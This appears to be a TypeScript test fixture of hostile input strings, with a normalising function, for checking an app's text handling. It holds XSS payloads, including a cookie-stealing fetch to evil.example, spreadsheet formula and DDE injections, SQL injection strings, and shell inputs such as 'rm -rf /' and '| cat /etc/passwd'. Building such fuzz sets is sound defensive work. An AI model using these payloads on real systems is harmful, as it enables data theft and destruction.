// Words nobody would say in a seminar: more than 500 texts that have broken other programs, made of
// vectors and what they are wrapped in. No name of a place outside is real.

const scripts = [
  'alert(1)',
  'document.title="owned"',
  "fetch('//evil.example/?'+document.cookie)",
  'window.owned=1',
]

/** Each vector with each script. */
const vectors: readonly ((script: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt type=module>${js}</sCrIpT>`,
  (js) => `<script/src="data:text/javascript,${js}"></script>`,
  (js) => `</script><script>${js}</script>`,
  (js) => `"><script>${js}</script>`,
  (js) => `'-${js}-'`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<img/src=x onerror='${js}'/>`,
  (js) => `<svg onload="${js}">`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  (js) => `<math><mtext></form><form><mglyph><style></math><img src onerror="${js}">`,
  (js) => `<body onload="${js}">`,
  (js) => `<details open ontoggle="${js}">`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<audio src=x onerror="${js}">`,
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<a href="javascript:${js}">click</a>`,
  (js) => `<a href="java\tscript:${js}">click</a>`,
  (js) => `<form action="javascript:${js}"><button>go</button></form>`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<select autofocus onfocus="${js}">`,
  (js) => `<marquee onstart="${js}">`,
  (js) => `<template><script>${js}</script></template>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<xmp><p title="</xmp><svg/onload=${js}>">`,
  (js) => `<style>@import 'javascript:${js}';</style>`,
  (js) => `<link rel=stylesheet href="data:text/css,${js}">`,
  (js) => `<meta http-equiv=refresh content="0;javascript:${js}">`,
  (js) => `<base href="javascript:${js}//">`,
  (js) => `<p style="background:url(javascript:${js})">`,
  (js) => `<b onclick=${js}>bold</b>`,
  (js) => `<custom-element onpointerenter="${js}">`,
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `&#60;script&#62;${js}&#60;/script&#62;`,
  (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  (js) => `%3Cscript%3E${js}%3C/script%3E`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}}`,
  (js) => `#{${js}}`,
  (js) => `<%= ${js} %>`,
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt://%0a${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `[click](javascript:${js})`,
  (js) => `![x](x" onerror="${js})`,
  (js) => `<![CDATA[<script>${js}</script>]]>`,
  (js) => `<!--<img src="--><img src=x onerror=${js}//">`,
  (js) => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${js}">]><x>&a;</x>`,
  (js) => `<w:p><w:r><w:t>${js}</w:t></w:r></w:p>`,
  (js) => `{"__proto__":{"x":"${js}"}}`,
  (js) => `\u2028${js}\u2029`,
]

const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  ';=1+1',
  '"=1+1"',
  "'=1+1",
  '=1+1\n=2+2',
  '|calc',
  '%0A=1+1',
  '=DDE("cmd";"/C calc";"x")',
  '1e1000',
  '00123',
]

const queries = [
  "'; DROP TABLE reflection; --",
  `" OR ""="`,
  "' OR 1=1 --",
  "1'; ATTACH DATABASE '/etc/x' AS x; --",
  "' UNION SELECT secret_hash FROM room --",
  'Robert"); DELETE FROM session;--',
  "x' AND (SELECT count(*) FROM participant) > 0 --",
  '); PRAGMA writable_schema=1; --',
  "\\'; SELECT 1",
  'NEAR(a b, 1)',
  '"unclosed quote',
  'text:* OR second_text:*',
  '^a AND NOT b*',
  '{a b}:c',
  '$where: 1',
  '%_%',
]

const shells = [
  '$(reboot)',
  '`reboot`',
  '; rm -rf / ;',
  '| cat /etc/passwd',
  '../../../etc/passwd',
  '..\\..\\windows\\system32',
  'file:///etc/passwd',
  'C:\\CON\\PRN',
  '/dev/null',
  '%n%n%n%s%s%x',
  '{0}{1}{2}',
  'NULL',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
  'constructor',
  '__proto__',
  'toString',
  'hasOwnProperty',
]

/** Letters that turn, hide, pile up or are not what they look like. */
const scriptsOfTheWorld = [
  '\u202eright to left override\u202c after',
  '\u202eunclosed override',
  '\u202a\u202b\u202d embeddings without an end',
  '\u2066isolate\u2069 \u2067other\u2069 \u2068first\u2069',
  '\u2067unclosed isolate',
  '\u200fעברית with English עברית 123',
  'العربية ١٢٣ and 123 (brackets)',
  '\u061cArabic letter mark',
  'zero\u200bwidth\u200bspaces',
  'joiner\u200d and non-joiner\u200c',
  '\u2060word\u2060joiner\u2060',
  '\u180eMongolian separator',
  '\u00adsoft\u00adhyphens\u00adeverywhere',
  '\u034fgrapheme joiner',
  'ﷺ﷽',
  `Z${'\u0300\u0316\u0489'.repeat(40)}algo`,
  `${'\u0e49'.repeat(200)}thai marks`,
  'a\u0302\u0323 and a\u0323\u0302',
  'Å (ring), A\u030a (two), \u212b (sign)',
  'ﬁne ﬂour ſtraße',
  'раураl written in Cyrillic',
  'ｆｕｌｌ　ｗｉｄｔｈ',
  '👩‍👩‍👧‍👦 👍🏿 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🇸🇪🇬🇧',
  `👨${'\u200d👨'.repeat(100)}`,
  '\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}',
  '\u{e0001}\u{e0041}\u{e0042} language tags',
  '\ufe0f\ufe0e variation selectors \ufe0f',
  '\u{10ffff}\u{fffff} last of all planes',
  '\ue000\uf8ff private',
  '\ufff9note\ufffaof\ufffbtext',
  '𝕳𝖊𝖑𝖑𝖔 𝓌𝑜𝓇𝓁𝒹',
  'ABC\u0336\u0336\u0336 struck',
  'İstanbul ıIiİ',
  'ǅ ǈ ǋ',
  '가각갂 \u1100\u1161\u11a8',
  'ཧཱུྃ༔',
  '၍ၕ ၐ',
  '\u0f00\u0fff',
  'नमस्ते क्ष्म्य',
  'ไม่มีช่องว่างระหว่างคำในภาษาไทยเลยและบรรทัดนี้ยาวมาก',
  '漢字\u3000仮名\u30fd\u309d',
  'Ω≈ç√∫˜µ≤≥÷',
  '⁰⁴⁵₀₁₂ ¼½¾ Ⅷ',
  '␀␁␂ ⌘⌥⇧',
  '\u2800\u2800\u2800 blank patterns',
  '\u3164 filler \uffa0',
  '\u115f\u1160 fillers',
  '\ufdfa'.repeat(30),
  '🎉'.repeat(500),
]

const controls = [
  '\u0000in front',
  'in\u0000between',
  'behind\u0000',
  '\u0001\u0002\u0003\u0004\u0005\u0006\u0007 low',
  '\u0008backspace',
  'vertical\u000btab and form\u000cfeed',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u007fdelete\u0080\u0081\u009f',
  'line\r\nbreaks\rof\nall\u0085kinds\u2028and\u2029more',
  '\ud800 alone',
  'alone \udc00',
  '\udc00\ud800 turned round',
  'a\ud83d',
  '\ufeffmark of order\ufeff',
  '\ufffe\uffff no characters',
  '\u{1fffe}\u{1ffff} none either',
  'tab\tand\ttabs',
  ' \u00a0 edges \u2003 ',
  'a\n\n\n\n\n\n\n\nb',
]

const long = [
  'm'.repeat(8_000),
  'å'.repeat(8_000),
  '😀'.repeat(8_000),
  'word '.repeat(1_599) + 'end',
  `${'a\n'.repeat(3_999)}b`,
  `${'<b>'.repeat(2_000)}deep`,
  '&amp;'.repeat(1_500),
  `${'('.repeat(4_000)}${')'.repeat(4_000)}`,
  'A\u0301'.repeat(3_900),
  `https://evil.example/${'x'.repeat(2_000)}`,
  '-'.repeat(3_000),
  `${'\u200b'.repeat(3_000)}x`,
  '='.repeat(5_000),
  `"${'"'.repeat(4_000)}`,
  '\u202e'.repeat(2_000) + 'x',
]

const wrapped = vectors.flatMap((vector) => scripts.map(vector))
const attributes = wrapped.slice(0, 160).map((text) => `"'\`> ${text} <"'\``)

/** No two alike; each says something once it is cleaned. */
export const hostileTexts: readonly string[] = [
  ...new Set([
    ...wrapped,
    ...formulas,
    ...queries,
    ...shells,
    ...scriptsOfTheWorld,
    ...controls,
    ...long,
    ...attributes,
  ]),
]

/**
 * As the laptop keeps them, worked out differently from how the host does: well-formed, composed, line
 * feeds only, no control characters, no marks of byte order, nothing at the ends.
 */
export function asKept(text: string): string {
  const dropped = (code: number) =>
    (code < 0x20 && code !== 9 && code !== 10) ||
    (code >= 0x7f && code < 0xa0) ||
    (code & 0xfffe) === 0xfffe ||
    (code >= 0xfdd0 && code <= 0xfdef) ||
    code === 0xfeff
  const lines = text.split(/\r\n|[\r\v\f\u0085\u2028\u2029]/).join('\n')
  const letters = Array.from(lines, (letter) => {
    const code = letter.codePointAt(0) ?? 0
    return code >= 0xd800 && code <= 0xdfff ? '\ufffd' : dropped(code) ? '' : letter
  })
  return letters.join('').normalize('NFC').trim()
}
